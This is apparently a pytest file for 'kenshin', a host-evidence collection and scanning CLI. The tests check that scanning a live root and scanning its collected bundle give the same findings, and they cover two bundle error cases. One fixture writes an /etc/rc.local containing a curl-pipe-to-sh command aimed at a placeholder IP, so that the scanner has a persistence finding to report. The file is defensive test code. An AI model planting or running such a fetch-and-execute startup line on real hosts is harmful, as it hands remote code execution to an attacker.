import json
from pathlib import Path

import pytest

from kenshin.cli.main import main


def test_a_collected_bundle_is_judged_as_the_host_is(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root, bundle = tmp_path / "root", tmp_path / "host.evidence"
    (root / "etc").mkdir(parents=True)
    (root / "etc/rc.local").write_text("#!/bin/sh\ncurl http://203.0.113.7/a | sh\n")
    (root / "etc/rc.local").chmod(0o755)
    assert main(["collect", f"root:{root}", "-o", str(bundle)]) == 0
    assert f"places in {bundle}" in capsys.readouterr().err
    told = []
    for uri in (f"root:{root}", f"bundle:{bundle}"):
        main(["scan", uri, "--format", "json"])
        told.append(json.loads(capsys.readouterr().out))
    assert told[0]["findings"] == told[1]["findings"] != []
    assert told[0]["questions"] == told[1]["questions"]


def test_a_bundle_is_not_collected_again(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["collect", "bundle:/x", "-o", str(tmp_path / "y")]) == 2
    assert "a bundle is collected already\n  kenshin scan bundle:/x" in capsys.readouterr().err


def test_a_bundle_without_a_place_is_an_error(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["collect", f"root:{tmp_path}", "-o", str(tmp_path / "no" / "file")]) == 1
    assert "No such file or directory" in capsys.readouterr().err
